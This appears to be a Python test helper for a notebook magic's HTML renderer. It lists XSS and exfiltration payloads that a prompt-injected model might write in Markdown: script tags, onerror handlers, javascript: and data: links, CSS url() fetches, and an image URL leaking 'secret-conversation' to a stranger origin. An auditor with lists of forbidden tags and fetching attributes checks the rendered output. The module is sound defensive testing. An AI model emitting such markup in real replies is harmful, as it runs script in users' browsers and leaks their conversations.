"""Hostile model text for the kernel-side renderer, and an audit of the HTML it makes.

`payloads(origin)` are Markdown replies a prompt injection could make a model write, each aimed
at `origin` (a "stranger" server in the browser test): every one tries to run script or make the
page fetch something. Each is under the emulator's 200-character echo so that the magic can be
made to show it. `audit(html)` lists what in rendered HTML could run or fetch: an empty list is
the renderer's promise.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

PWN = "document.title='pwned'"
SVG = "PHN2ZyB4bWxucz0naHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmcnIG9ubG9hZD0nYWxlcnQoMSknLz4="  # <svg onload=...>


def payloads(origin: str) -> list[str]:
    host = origin.split("//", 1)[1]
    return [
        f'<img src=x onerror="{PWN}"> <img src="{origin}/raw-img">',
        f"<script>{PWN}</script><script src='{origin}/script.js'></script>",
        f"![x]({origin}/img?q=secret-conversation)",
        f"![proto](//{host}/protocol-relative.png) ![rel](relative.png)",
        f"[x](javascript:{PWN}) [y](JaVaScRiPt:alert(1)) [z](vbscript:msgbox) [d](data:text/html,<b>x</b>)",
        f"![svg](data:image/svg+xml;base64,{SVG}) ![svg2](data:image/svg+xml,<svg/onload=alert(1)>)",
        f"![ref][r]\n\n[r]: {origin}/reference.png",
        f"![full][] and ![collapsed]\n\n[full]: {origin}/full.png\n[collapsed]: {origin}/collapsed.png",
        f"<{origin}/autolink> and {origin}/bare-url and <mailto:a@b.example>",
        f"&lt;img src={origin}/entity.png&gt; ![e](http&#58;//{host}/entity-url.png) &#60;script&#62;",
        f"[![nested]({origin}/nested.png)]({origin}/nested-link) ![a [b] c]({origin}/brackets.png)",
        f"$<img src={origin}/math.png onerror=alert(1)>$ and $x<y$ and $a</span><img src=x>$",
        f"$\\text{{<img src={origin}/text.png>}}$ $\\href{{javascript:alert(1)}}{{x}}$",
        f"$\\style{{background:url({origin}/mathstyle)}}{{y}}$ $$\\href{{{origin}/h}}{{z}}$$",
        f'<div style="background:url({origin}/css)">x</div><style>@import url({origin}/import.css)</style>',
        f"<link rel=stylesheet href={origin}/link.css><iframe src={origin}/frame></iframe>",
        f"<svg><image href={origin}/svg.png /></svg><video poster={origin}/poster></video>",
        (
            f'<object data={origin}/obj></object><base href="{origin}/">'
            f'<meta http-equiv=refresh content="0;url={origin}/m">'
        ),
        f'<a href="{origin}/a" ping="{origin}/ping">ping</a> [t]({origin}/t "a\\" onmouseover=\\"{PWN}")',
        f'![angle](<{origin}/angle.png>) ![title]({origin}/title.png "t")',
        f'```"><img src=x onerror={PWN}>\ncode\n```',
        f"| a | b |\n|---|---|\n| <img src={origin}/cell.png> | ![c]({origin}/cell-md.png) |",
    ]


ALLOWED_DATA_IMAGE = re.compile(r"data:image/(png|jpeg|jpg|gif|webp);base64,[A-Za-z0-9+/]+=*", re.IGNORECASE)
FORBIDDEN_TAGS = {
    "script",
    "iframe",
    "object",
    "embed",
    "link",
    "meta",
    "base",
    "svg",
    "image",
    "video",
    "audio",
    "source",
    "form",
    "input",
    "frame",
    "frameset",
    "applet",
    "portal",
    "picture",
    "track",
}
FETCHING_ATTRS = {
    "src",
    "srcset",
    "poster",
    "data",
    "action",
    "formaction",
    "background",
    "xlink:href",
    "ping",
    "lowsrc",
    "dynsrc",
    "codebase",
    "cite",
    "manifest",
}

FETCHING_CSS = re.compile(r"url\(|@import|image-set|expression\(", re.IGNORECASE)


def audit(markup: str, copy_handler: str) -> list[str]:
    """What in `markup` could run script or make the browser fetch: empty when it is safe.

    `copy_handler` is the renderer's own Copy button handler, the only inline script allowed;
    a leading <style> must be the renderer's CSS (checked by the caller) and have no url().
    """
    problems: list[str] = []

    class Auditor(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            if tag in FORBIDDEN_TAGS:
                problems.append(f"<{tag}>")
            for name, value in attrs:
                value = value or ""
                ours = tag == "button" and name == "onclick" and value == copy_handler
                if name.startswith("on") and not ours:
                    problems.append(f"<{tag} {name}={value!r}>")
                elif name == "src" and tag == "img" and ALLOWED_DATA_IMAGE.fullmatch(value):
                    continue
                elif name in FETCHING_ATTRS:
                    problems.append(f"<{tag} {name}={value!r}>")
                elif name == "href" and not re.match(r"(https?://|mailto:)", value):
                    problems.append(f"<{tag} href={value!r}>")
                elif name == "style" and FETCHING_CSS.search(value):
                    problems.append(f"<{tag} style={value!r}>")
            if tag == "img" and not any(name == "src" for name, _ in attrs):
                problems.append("<img> without a data: src")

        def handle_data(self, data: str) -> None:
            if self.lasttag == "style" and FETCHING_CSS.search(data):
                problems.append("a stylesheet that fetches")

    auditor = Auditor()
    auditor.feed(markup)
    auditor.close()
    return problems


def magic_output(run, reply: str) -> str:
    """The `%%sensenova` magic's final text/html for `reply` (the emulator echoes the prompt).

    `run` is tests/test_magic.py's fixture; braces are doubled so the magic fills nothing in.
    """
    ran = run("%%sensenova\n" + reply.replace("{", "{{").replace("}", "}}"))
    assert ran.error is None and ran.final["text/plain"].startswith(reply.strip()), ran.final
    return ran.final["text/html"]
